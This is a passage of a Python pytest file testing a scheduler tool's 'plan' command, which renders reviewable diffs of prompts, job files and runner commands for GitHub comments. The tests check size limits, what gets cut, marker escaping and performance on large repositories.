    "notes": [],
    "guard": None,
    "unchanged": 0,
    "jobs": {},
    "runner_jobs": {},
    "runners": {},
    "base": None,
    "head": None,
}


@pytest.mark.parametrize("size", [1, 100, 3_000])
@pytest.mark.parametrize("count", [1, 40, 2_000])
def test_a_comment_keeps_within_what_github_takes_and_says_what_it_cut(size: int, count: int) -> None:
    text = "A line of a prompt, \U0001f600 as long as they are.\n" * size
    whole = unified("", text)
    diffs = [
        TaskDiff(path=f"prompts/{n}.md", jobs=(f"j{n}",), before_sha256="1", after_sha256="2", unified=whole)
        for n in range(count)
    ]
    page = comment(EMPTY, diffs)
    assert len(page.encode("utf-16-le")) // 2 <= MOST
    shown = page.count("</details>")
    cut = re.search(r"Not shown: (.*)\.\*\*", page)
    dropped = int(found[1]) if cut and (found := re.search(r"(\d+) prompts and scripts", cut[1])) else 0
    assert shown + dropped == count
    assert (cut is None) == (size * count <= 400)
    assert page.count("```diff") == page.count("```\n") == shown


def test_a_summary_and_every_problem_come_before_what_can_be_cut(root: Root) -> None:
    branch(root)
    for n in range(600):
        root.write(f"jobs/n{n}.yaml", f'id: n{n}\nschedule: "@daily"\ntask: hello\n')
    root.write("jobs/bad.yaml", "id: bad\n")
    found = root.cli("plan", "--base", "base", "--format", "markdown")
    assert found.code == 1
    assert len(found.stdout) <= MOST
    assert "600 jobs added" in found.stdout
    assert "jobs/bad.yaml" in found.stdout
    cut = re.search(r"Not shown: (\d+) prompts and scripts, (\d+) jobs", found.stdout)
    assert cut is not None
    assert found.stdout.count("```diff") == 600 - int(cut[1]) > 50
    assert found.stdout.count("| schedule |") == 600 - int(cut[2]) > 20


def test_no_crowd_of_problems_or_new_jobs_hides_a_changed_text_or_more_power(root: Root) -> None:
    branch(root)
    for n in range(1_000):
        root.write(f"jobs/a{n}.yaml", f"id: a{n}\nrunner: agent\nschedule: '@daily'\ntask: {'hello ' * 30}\n")
        root.write(f"jobs/b{n}.yaml", f"id: b{n}\n{'x' * 100}: 1\n")
    root.edit("prompts/triage.md", "inbox", "queue")
    root.edit("scheduler.yaml", "[cat]", "[cat, -n]")
    shown = root.cli("plan", "--base", "base", "--format", "markdown").stdout
    assert len(shown) <= MOST
    assert '`runners.agent.command`: `["cat"]` → `["cat", "-n"]`; used by' in shown
    assert "+Sort the queue." in shown


def test_two_roots_of_one_repository_have_comments_of_their_own() -> None:
    assert marker("") == "<!-- scheduler plan . -->"
    assert marker("a--> <b>") == "<!-- scheduler plan a%2D%2D%3E%20%3Cb%3E -->"


def test_a_text_that_went_missing_says_so_instead_of_showing_nothing() -> None:
    from scheduler.core.plan.plan import Plan
    from scheduler.core.values.settings import Settings

    assert task_diffs(Plan(settings=Settings()), {"x": (Text("a"), Text(None, "gone"))}) == ()


# -- size ----------------------------------------------------------------------------------------


@pytest.mark.long
def test_a_repository_of_100_000_files_is_reviewed_in_seconds(root: Root) -> None:
    blob = root.git("hash-object", "-w", "prompts/triage.md")
    listing = "".join(f"100644 {blob}\tother/{n // 1000}/{n}.txt\n" for n in range(100_000))
    subprocess.run(["git", "-C", root.path, "update-index", "--index-info"], input=listing.encode(), check=True)
    root.git("commit", "-qm", "x")
    branch(root)
    root.git("checkout", "-q", "-f", "topic")
    root.edit("prompts/triage.md", "inbox", "queue")
    root.git("commit", "-qam", "x")
    command = [sys.executable, "-m", "scheduler", "plan", "--base", "base", "--head", "topic"]
    started = time.monotonic()
    subprocess.run(
        command, cwd=root.path, check=True, capture_output=True, env={**os.environ, "PYTHONPATH": str(REPOSITORY)}
    )
    assert time.monotonic() - started < 10


def test_a_length_of_time_is_written_as_in_the_file_in_every_format(root: Root) -> None:
    root.git("tag", "base")
    root.edit("jobs/heartbeat.md", 'schedule: "0 * * * *"', 'schedule: "0 * * * *"\ntimeout: 2h')
    root.commit()
    for style in ("text", "markdown", "github"):
        shown = root.cli("plan", "--base", "base", "--format", style).stdout
        assert "2h" in shown, style
        assert "timeout_ms" not in shown, style
        assert "7200000" not in shown, style
